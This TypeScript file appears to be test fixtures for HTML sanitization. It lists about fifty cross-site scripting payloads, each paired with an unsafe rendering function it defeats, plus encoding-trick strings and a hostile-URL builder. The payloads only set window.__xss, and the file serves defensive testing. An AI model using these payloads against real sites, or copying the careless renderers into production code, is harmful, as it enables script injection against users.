/** Ways in which text has become script elsewhere, and the places in which each of them does. */

/** Writes a text into a page as a careless program would. */
type Careless = (text: string) => string;

const script = (code: string) => `<script>${code}</script>`;

/** Fifty texts by the careless places in which they run; `RUN` stands for what sets `window.__xss`. */
const textsByPlace: readonly (readonly [careless: Careless, texts: readonly string[]])[] = [
  [
    (text) => `<p>${text}</p>`,
    [
      '"><img src=x onerror=window.RUN>',
      "'><svg/onload=window.RUN>",
      '<!--><script>window.RUN</script>-->',
      '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
      '<iframe src="javascript:parent.RUN"></iframe>',
      '<iframe onload=window.RUN></iframe>',
      '<a href="javascript:window.RUN">x</a>',
      '<a href="jav&#x09;ascript:window.RUN">x</a>',
      '<svg><a xlink:href="javascript:window.RUN"><text y=9>x</text></a></svg>',
      '<details open ontoggle=window.RUN>',
      '<ScRiPt >window.RUN</sCrIpT>',
      '<script\t>window.RUN</script\n>',
      '<<script>window.RUN//<</script>',
      '<svg><script>window&#46;RUN</script></svg>',
      '<svg><animate onbegin=window.RUN attributeName=x dur=1s>',
      '<svg><set onbegin=window.RUN attributeName=x dur=1s>',
      '<svg><foreignObject><img src=x onerror=window.RUN></foreignObject></svg>',
      '<math><mtext><img src=x onerror=window.RUN></mtext></math>',
      '<div><template shadowrootmode=open><img src=x onerror=window.RUN></template></div>',
      '<body onload=window.RUN>',
      '<body/onpageshow=window.RUN>',
      '<input autofocus onfocus=window.RUN>',
      '<select autofocus onfocus=window.RUN>',
      '<textarea autofocus onfocus=window.RUN>',
      '<input type=image src=x onerror=window.RUN>',
      '<video><source onerror=window.RUN></video>',
      '<audio src=x onerror=window.RUN>',
      '<object data=x onerror=window.RUN></object>',
      '<link rel=stylesheet href=x onerror=window.RUN>',
      '<style onload=window.RUN></style>',
      '<style>@keyframes k{}</style><b style=animation:k onanimationstart=window.RUN>x</b>',
      '<img srcset=x onerror=window.RUN>',
      '<img title="<" src="x"onerror="window.RUN">',
      '<img src=x onerror=&#119;indow.RUN>',
      '<form action="javascript:window.RUN"><button>x</button></form>',
      '<form><button formaction="javascript:window.RUN">x</button></form>',
    ],
  ],
  [(text) => `<p title="${text}">x</p>`, ['" onmouseover="window.RUN" x="']],
  [
    (text) => `<style>@keyframes x{}</style><p title='${text}'>x</p>`,
    ["' style='animation-name:x' onanimationstart='window.RUN"],
  ],
  [(text) => `<a title=${text}>x</a>`, ['x onfocus=window.RUN autofocus tabindex=1']],
  [(text) => `<a href="${text}">x</a>`, ['javascript:window.RUN']],
  [(text) => `<script src="${text}"></script>`, ['data:text/javascript,window.RUN']],
  [(text) => `<!-- ${text} -->`, ['--><script>window.RUN</script>']],
  [
    (text) => `<title><style><textarea><noscript>${text}`,
    ['</title></style></textarea></noscript><script>window.RUN</script>'],
  ],
  // JSON in a script, and strings whose quotes are escaped and whose backslashes are not.
  [(text) => script(`const data = ${JSON.stringify({ text })}`), ['</script><script>window.RUN</script>']],
  [(text) => script(`const data = "${text.replaceAll('"', '\\"')}"`), ['\\";window.RUN;//']],
  [(text) => script(`const data = \`${text}\``), ['${window.RUN}']],
  // Decoded once too often; a filter that is passed once; addresses out of Markdown.
  [
    (text) => `<p id=a>${text}</p>${script('a.innerHTML = a.textContent')}`,
    ['&lt;img src=x onerror=window.RUN&gt;'],
  ],
  [(text) => text.replaceAll(/<\/?script>/g, ''), ['<scr<script>ipt>window.RUN</scr</script>ipt>']],
  [(text) => text.replaceAll(/\[(\w+)\]\((\S+)\)/g, '<a href="$2">$1</a>'), ['[x](javascript:window.RUN)']],
  // Markup that is harmless until it is written and parsed anew.
  [
    (text) =>
      script(
        `onload = () => (document.body.innerHTML = new DOMParser().parseFromString(${JSON.stringify(text).replaceAll('<', '\\u003c')}, 'text/html').body.innerHTML)`,
      ),
    ['<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.RUN>'],
  ],
];

/** A text that sets `window.__xss` to its number where it is written without care. */
export interface Payload {
  readonly number: number;
  readonly text: string;
  /** A page in which it does so, at the latest once everything in it was pointed at and pressed. */
  readonly carelessPage: string;
}

export const payloads: readonly Payload[] = textsByPlace
  .flatMap(([careless, texts]) => texts.map((text) => [careless, text] as const))
  .map(([careless, typed], index) => {
    const text = typed.replaceAll('RUN', `__xss=${String(index + 1)}`);
    return { number: index + 1, text, carelessPage: careless(text) };
  });

export const hostileTexts = payloads.map(({ text }) => text);

/** Texts that run in no page of today's browsers by themselves, and were read as more than text elsewhere. */
export const strangeTexts = [
  '\u202Ereversed\u2066 \u0085\u2028\uFEFF\uFFFE',
  '{{constructor.constructor("window.__xss=101")()}} <%= 7*7 %> #{7*7} ]]> %3Cscript%3E',
  '+ADw-script+AD4-window.__xss=102+ADw-/script+AD4-',
  '<isindex action="javascript:window.__xss=103" type=image>',
  '<meta http-equiv=refresh content="0;url=javascript:window.__xss=104">',
  '<div style="background:url(javascript:window.__xss=105)">',
  '<img src="x` `<script>window.__xss=106</script>"` `>',
] as const;

/** Everything at once. */
export const hostileText = [...hostileTexts, ...strangeTexts].join(' ');

/** An address that holds, and that would leave its attribute if it were written without care. */
export const hostileAddress = (text: string): string =>
  `https://links.example/?${text.replaceAll(/[\s\\\p{Cc}]/gu, '/')}`;

declare global {
  interface Window {
    __xss?: number;
  }
}
